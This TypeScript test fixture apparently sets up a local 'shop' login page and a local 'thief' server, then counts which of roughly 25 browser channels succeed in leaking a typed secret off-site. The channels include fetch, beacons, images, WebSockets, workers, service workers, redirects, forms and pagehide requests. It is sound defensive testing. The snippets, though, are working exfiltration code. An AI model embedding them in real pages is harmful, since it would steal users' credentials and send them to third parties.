// A page that sends what is typed into it elsewhere, by every way there is, and the server that would get it. Both count what really arrives.
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocketServer } from 'ws';
import { bodyOf } from './http.js';

export interface LeakingPages {
  /** Where the field is. */
  readonly shop: string;
  /** Where the secret is sent: another origin, and another site. */
  readonly thief: string;
  /** Another site that shows the field in a frame. */
  readonly around: string;
  /** Path and query of what arrived there. */
  readonly stolen: string[];
  /** What the pages told their own server. */
  readonly told: string[];
  close(): Promise<void>;
}

export interface Channel {
  readonly name: string;
  /** Runs when the page has come. */
  readonly before?: string;
  /** Runs when the field holds the secret: `say(way)` is an address at the thief that has it. */
  readonly code: string;
  /** The page goes, so it cannot tell that it has tried. */
  readonly leaves?: true;
  /** Another page comes to the front. */
  readonly opens?: true;
  /** The browser does not tell that it stopped it. */
  readonly silent?: true;
}

const open = (url: string): string => `${url}.replace(/^http/, 'ws')`;

export const channels: readonly Channel[] = [
  { name: 'fetch', code: `await fetch(say('fetch'), { mode: 'no-cors' })` },
  { name: 'a request with a preflight', code: `await fetch(say('put'), { method: 'PUT', headers: { x: '1' } })` },
  {
    name: 'an image',
    code: `await new Promise((done) => { const image = new Image(); image.onload = image.onerror = done; image.src = say('image'); })`,
  },
  { name: 'a beacon', code: `navigator.sendBeacon(say('beacon'), 'x')` },
  {
    name: 'a style sheet',
    code: `await new Promise((done) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = link.onerror = done; link.href = say('style'); document.head.append(link); })`,
  },
  {
    name: 'a prefetch',
    code: `await new Promise((done) => { const link = document.createElement('link'); link.rel = 'prefetch'; link.onload = link.onerror = done; link.href = say('prefetch'); document.head.append(link); })`,
  },
  { name: 'an event stream', code: `await new Promise((done) => { new EventSource(say('stream')).onerror = done; })` },
  {
    name: 'a WebSocket',
    code: `await new Promise((done) => { const socket = new WebSocket(${open(`say('socket')`)}); socket.onopen = socket.onerror = done; })`,
  },
  {
    name: 'a WebSocket that was open before',
    before: `window.early = new WebSocket(${open(`thief + '/early'`)}); await new Promise((done) => (early.onopen = done))`,
    code: `early.send('early ' + secret)`,
    silent: true,
  },
  { name: 'a frame', code: `{ const frame = document.createElement('iframe'); frame.src = say('frame'); document.body.append(frame); }` },
  {
    name: 'an empty frame',
    code: `{ const frame = document.createElement('iframe'); document.body.append(frame); await frame.contentWindow.fetch(say('empty'), { mode: 'no-cors' }); }`,
  },
  { name: 'a worker that was there', before: `window.worker = new Worker('/worker.js')`, code: `await ask(worker, say('worker'))` },
  { name: 'a new worker', code: `await ask(new Worker('/worker.js'), say('worker'))` },
  { name: 'a WebSocket of a new worker', code: `await ask(new Worker('/worker.js'), ${open(`say('workersocket')`)})` },
  {
    name: 'a shared worker that was there',
    before: `window.shared = new SharedWorker('/shared.js'); await ask(shared.port, '/pong')`,
    code: `await ask(shared.port, say('shared'))`,
  },
  { name: 'a new shared worker', code: `await ask(new SharedWorker('/shared.js', 'new').port, say('shared'))` },
  {
    name: 'a service worker',
    before: `await navigator.serviceWorker.register('/service.js'); window.service = (await navigator.serviceWorker.ready).active`,
    code: `await ask(service, say('service'))`,
  },
  {
    name: 'a redirect of the own server',
    code: `await fetch('/redirect?to=' + encodeURIComponent(say('redirected')), { mode: 'no-cors' })`,
  },
  { name: 'a new window', code: `open(say('window'))`, opens: true },
  { name: 'a new window that does not know its opener', code: `open(say('noopener'), '_blank', 'noopener')`, opens: true },
  { name: 'an empty window', code: `await window.open('about:blank').fetch(say('emptywindow'), { mode: 'no-cors' })`, opens: true },
  {
    name: 'a form',
    code: `{ const form = document.createElement('form'); form.method = 'post'; form.action = say('form'); document.body.append(form); form.submit(); }`,
    leaves: true,
  },
  { name: 'a navigation', code: `location.href = say('navigation')`, leaves: true },
  {
    name: 'what a page sends when it goes',
    code: `addEventListener('pagehide', () => { navigator.sendBeacon(say('end')); void fetch(say('endfetch'), { keepalive: true, mode: 'no-cors' }).catch(() => {}); }); location.href = '/?by='`,
    leaves: true,
    opens: true,
  },
  { name: 'a navigation by the own server', code: `location.href = '/redirect?to=' + encodeURIComponent(say('led'))`, leaves: true },
];

const worker = (reply: string): string => `
  const tell = async (url) => {
    if (url.startsWith('ws')) await new Promise((done) => { const socket = new WebSocket(url); socket.onopen = socket.onerror = done; });
    else await fetch(url, { mode: 'no-cors' }).catch(() => {});
  };
  ${reply}`;

const scripts: Readonly<Record<string, string>> = {
  '/worker.js': worker(`onmessage = ({ data, ports: [port] }) => tell(data).then(() => port.postMessage('told'));`),
  '/shared.js': worker(
    `onconnect = ({ ports: [own] }) => { own.onmessage = ({ data, ports: [port] }) => tell(data).then(() => port.postMessage('told')); };`,
  ),
  '/service.js': worker(
    `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim()); onmessage = (event) => event.waitUntil(tell(event.data).then(() => event.ports[0].postMessage('told')));`,
  ),
};

/** `tried` is told when all is done, whether it was refused or not. */
function pageOf({ before = '', code }: Channel, thief: string, secret: string): string {
  return `<!doctype html><title>Shop</title>
    <form method="post" action="/welcome"><label>Code <input name="code" id="code"></label><button>Sign in</button></form>
    <button onclick="attack()">Again</button><p id="state">loading</p>
    <script>
      const thief = ${JSON.stringify(thief)};
      const tell = (text) => fetch('/told', { method: 'POST', body: text, keepalive: true });
      const ask = (whom, text) => new Promise((done) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = done; whom.postMessage(text, [port2]); setTimeout(done, 1500); });
      let secret = '';
      const say = (way) => thief + '/' + way + '?' + encodeURIComponent(secret);
      async function attack() {
        try { ${code}; } catch {}
        await tell('tried');
      }
      code.oninput = () => { if (code.value === ${JSON.stringify(secret)}) { secret = code.value; attack(); } };
      (async () => { ${before}; state.textContent = 'ready'; tell('ready'); })();
    </script>`;
}

export async function startLeakingPages(secret: string): Promise<LeakingPages> {
  const stolen: string[] = [];
  const told: string[] = [];
  const thiefServer = createServer((request, response) => {
    if (request.method !== 'OPTIONS' && !/^\/(around|cdn|favicon)/.test(request.url ?? '')) stolen.push(request.url ?? '');
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'access-control-allow-methods': 'PUT',
      'access-control-allow-headers': 'x',
      'cache-control': 'no-store',
      'content-type': request.url?.endsWith('.js') ? 'text/javascript' : 'text/html',
    });
    response.end(
      request.url?.startsWith('/around')
        ? around(new URL(request.url, shop).searchParams)
        : request.url?.endsWith('.js')
          ? cdn
          : request.url?.startsWith('/cdn')
            ? plain
            : '',
    );
  });
  const sockets = new WebSocketServer({ server: thiefServer });
  sockets.on('connection', (socket, request) => {
    if (request.url !== '/early') stolen.push(`socket ${request.url}`);
    socket.on('message', (data: Buffer) => stolen.push(data.toString()));
  });

  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const url = new URL(request.url ?? '/', shop);
    const script = scripts[url.pathname];
    const html = (text: string): void =>
      void response.writeHead(200, { 'content-type': 'text/html', 'cache-control': 'no-store' }).end(text);
    if (script !== undefined) response.writeHead(200, { 'content-type': 'text/javascript' }).end(script);
    else if (url.pathname === '/told') {
      told.push(await bodyOf(request));
      response.writeHead(204).end();
    } else if (url.pathname === '/redirect') response.writeHead(302, { location: url.searchParams.get('to') ?? '/' }).end();
    else if (url.pathname === '/welcome') {
      told.push(`signed in: ${await bodyOf(request)}`);
      // A page after the login, with what other servers have for it.
      html(`<!doctype html><title>Welcome</title><h1>Welcome</h1><script src="${thief}/cdn.js"></script>`);
    } else {
      const channel = channels.find(({ name }) => name === url.searchParams.get('by'));
      html(pageOf(channel ?? { name: '', code: '' }, thief, secret));
    }
  };
  const shopServer = createServer(
    (request, response) => void answer(request, response).catch((error: unknown) => response.writeHead(500).end(String(error))),
  );
  for (const server of [thiefServer, shopServer]) {
    server.listen(0);
    await once(server, 'listening');
  }
  const { port: thiefPort } = thiefServer.address() as AddressInfo;
  const shop = `http://127.0.0.1:${(shopServer.address() as AddressInfo).port}`;
  const thief = `http://localhost:${thiefPort}`;
  const plain = `<!doctype html><title>Other</title><h1>Other</h1><script src="/cdn.js"></script>`;
  const cdn = `document.querySelector('h1').textContent = 'With all its parts';`;
  const around = (query: URLSearchParams): string =>
    `<!doctype html><title>Around</title><iframe title="Login" width="600" height="300" src="${shop}/?by=${encodeURIComponent(query.get('by') ?? '')}"></iframe>
     <button onclick="fetch('/from-around').then(() => said.textContent = 'sent', () => said.textContent = 'refused')">Send</button><p id="said">-</p>`;

  return {
    shop,
    thief,
    around: `${thief}/around`,
    stolen,
    told,
    close: async () => {
      sockets.close();
      for (const server of [thiefServer, shopServer]) {
        server.closeAllConnections();
        server.close();
        await once(server, 'close');
      }
    },
  };
}
